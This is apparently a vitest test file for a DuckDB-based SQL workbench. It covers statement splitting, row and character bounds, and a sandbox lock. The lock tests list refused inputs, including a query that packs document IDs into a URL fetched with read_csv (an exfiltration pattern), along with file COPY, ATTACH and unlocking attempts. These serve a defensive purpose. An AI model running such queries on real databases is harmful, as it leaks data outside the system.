/** The workbench's SQL layer on the real engine: statements, bounded results, and the lock that keeps user SQL off files and the network. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { LOCK_SQL } from '../../src/db/workbench/sandbox'
import { leadingKeyword, splitStatements } from '../../src/db/workbench/statements'
import { boundedSelect, countRows, listTables, runWorkbench } from '../../src/db/workbench/run'
import type { Engine } from '../../src/db/types'
import { openEngine } from './engine'

let db: Engine & { close(): void }
beforeAll(async () => { db = await openEngine() })
afterAll(() => db.close())

describe('splitStatements(sql)', () => {
  const cases: Array<{ name: string; sql: string; expected: string[] }> = [
    { name: 'splits on ; between statements', sql: 'SELECT 1; SELECT 2;', expected: ['SELECT 1', 'SELECT 2'] },
    { name: 'keeps a ; inside a string', sql: "SELECT ';' AS a; SELECT 2", expected: ["SELECT ';' AS a", 'SELECT 2'] },
    { name: 'keeps a ; inside a quoted name and an escaped quote', sql: `SELECT 1 AS "a;b", 'it''s;' AS c`, expected: [`SELECT 1 AS "a;b", 'it''s;' AS c`] },
    { name: 'keeps a ; inside comments', sql: 'SELECT 1 -- a; b\n; /* c; d */ SELECT 2', expected: ['SELECT 1 -- a; b', '/* c; d */ SELECT 2'] },
    { name: 'keeps a ; inside dollar quotes', sql: 'SELECT $x$a;b$x$ AS s; SELECT $$;$$', expected: ['SELECT $x$a;b$x$ AS s', 'SELECT $$;$$'] },
    { name: 'drops statements that are only comments or blanks', sql: ' ; -- nothing\n ;\nSELECT 3; -- trailing', expected: ['SELECT 3'] },
  ]
  for (const c of cases) it(c.name, () => expect(splitStatements(c.sql).map((s) => s.text)).toEqual(c.expected))

  it('names the leading keyword past comments and parentheses', () => {
    expect(leadingKeyword('-- x\n/* y */ (with a AS (SELECT 1) SELECT * FROM a)')).toBe('WITH')
    expect(leadingKeyword('  pivot line_items ON table_code USING count(*)')).toBe('PIVOT')
    expect(leadingKeyword('-- only a comment')).toBe('')
  })
})

describe('runWorkbench(db, sql, limits)', () => {
  it('returns rows, with sums of DECIMAL amounts as exact text', async () => {
    const r = await runWorkbench(db, "SELECT sum(value) AS s, count(*) AS n FROM line_items WHERE doc_id = 'changzhi-2026-budget' AND table_code = 'B03' AND class_code = '208'")
    expect(r.error).toBeNull()
    expect(r.rows).toEqual([{ s: '385815100.00', n: 3 }])
    expect(r.more).toBe(false)
  })

  it('reports DuckDB’s own error and keeps the engine usable', async () => {
    const bad = await runWorkbench(db, 'SELEC 1')
    expect(bad.error).toMatch(/syntax error/i)
    const good = await runWorkbench(db, 'SELECT 1 AS one')
    expect(good.rows).toEqual([{ one: 1 }])
  })

  it('stops DuckDB after the row limit: range(100000000) hands over 1,000 rows and says there are more', async () => {
    const r = await runWorkbench(db, 'SELECT * FROM range(100000000)', { maxRows: 1000, maxChars: 2000 })
    expect(r.error).toBeNull()
    expect(r.rows).toHaveLength(1000)
    expect(r.more).toBe(true)
    expect(r.rows[999]).toEqual({ range: 999 })
    expect(await countRows(db, r.rowQuery!)).toBe(100_000_000)
  })

  it('cuts a 100-million-character cell to the character limit inside DuckDB', async () => {
    const r = await runWorkbench(db, "SELECT repeat('x', 100000000) AS big, 'short' AS small", { maxRows: 10, maxChars: 50 })
    expect(r.error).toBeNull()
    expect(r.rows).toEqual([{ big: 'x'.repeat(50) + '…', small: 'short' }])
    expect(r.cutCells).toBe(1)
  })

  it('cuts lists and structs as text, keeps numbers and duplicate column names apart', async () => {
    const r = await runWorkbench(db, "SELECT 1 AS a, 2 AS a, range(0, 1000) AS l, {'k': 'v'} AS s", { maxRows: 10, maxChars: 20 })
    expect(r.columns).toEqual(['a', 'a_1', 'l', 's'])
    expect(r.rows[0]).toEqual({ a: 1, a_1: 2, l: '[0, 1, 2, 3, 4, 5, 6…', s: "{'k': v}" })
  })

  it('runs every statement of a script and shows the last one’s rows', async () => {
    const r = await runWorkbench(db, "CREATE TEMP TABLE wb_t AS SELECT 41 AS x; INSERT INTO wb_t VALUES (42);\nSELECT sum(x) AS s FROM wb_t -- done")
    expect(r.statements).toBe(3)
    expect(r.rows).toEqual([{ s: 83 }])
  })

  it('reads DESCRIBE, SHOW, SUMMARIZE and PIVOT results through the bound', async () => {
    expect((await runWorkbench(db, 'SHOW TABLES')).rows.map((x) => x.name)).toContain('line_items')
    expect((await runWorkbench(db, 'DESCRIBE documents')).rows[0]).toMatchObject({ column_name: 'doc_id' })
    const p = await runWorkbench(db, "PIVOT (SELECT doc_id, table_code FROM line_items WHERE table_code IN ('B01', 'B03')) ON table_code USING count(*) GROUP BY doc_id ORDER BY doc_id")
    expect(p.error).toBeNull()
    expect(p.columns).toEqual(['doc_id', 'B01', 'B03'])
  })

  it('runs a statement that returns no rows as it is (SET, CREATE)', async () => {
    const r = await runWorkbench(db, 'SET threads = 1')
    expect(r.error).toBeNull()
    expect(r.rows).toEqual([])
  })

  it('lists the tables and views a user can query', async () => {
    const names = (await listTables(db)).map((t) => t.table_name)
    expect(names).toEqual(expect.arrayContaining(['documents', 'line_items', 'sangong', 'v_facts', 'v_function', 'v_execution']))
  })

  it('fails fast on an extension it would have to download (autoload is off)', async () => {
    const r = await runWorkbench(db, "SELECT * FROM read_parquet('x.parquet')")
    expect(r.error).not.toBeNull()
  })

  it('writes the bound as one SELECT … LIMIT n+1 with text columns cut', () => {
    expect(boundedSelect('SELECT 1', [{ column_name: 'a', column_type: 'VARCHAR' }, { column_name: 'n', column_type: 'DECIMAL(18,2)' }], { maxRows: 5, maxChars: 9 }))
      .toBe('SELECT left("a", 10) AS "a", "n" FROM (\nSELECT 1\n) AS kanzhang_q LIMIT 6')
  })
})

describe('the lock (LOCK_SQL) on a copy of the data', () => {
  let copy: Engine & { close(): void }
  beforeAll(async () => {
    copy = await openEngine()
    for (const sql of LOCK_SQL) await copy.query(sql)
  })
  afterAll(() => copy.close())

  const refused: Array<{ name: string; sql: string }> = [
    { name: 'read_csv of another host (the exfiltration link)', sql: "SET VARIABLE u = (SELECT 'http://127.0.0.1:9/x.csv?d=' || string_agg(doc_id, '_') FROM documents); SELECT * FROM read_csv(getvariable('u'))" },
    { name: 'LOAD httpfs', sql: 'LOAD httpfs' },
    { name: 'ATTACH a database file', sql: "ATTACH 'other.db' AS other" },
    { name: 'COPY … TO a file', sql: "COPY (SELECT * FROM documents) TO 'documents.csv'" },
    { name: 'unlocking again', sql: 'SET enable_external_access = true' },
    { name: 'raising the memory limit', sql: "SET memory_limit = '100GB'" },
  ]
  for (const c of refused) {
    it(`refuses ${c.name}`, async () => {
      const r = await runWorkbench(copy, c.sql)
      expect(r.error).toMatch(/Permission Error|configuration has been locked/)
    })
  }

  it('still answers queries on the loaded tables', async () => {
    const r = await runWorkbench(copy, 'SELECT count(*) AS n FROM documents')
    expect(r.rows).toEqual([{ n: 4 }])
  })
})
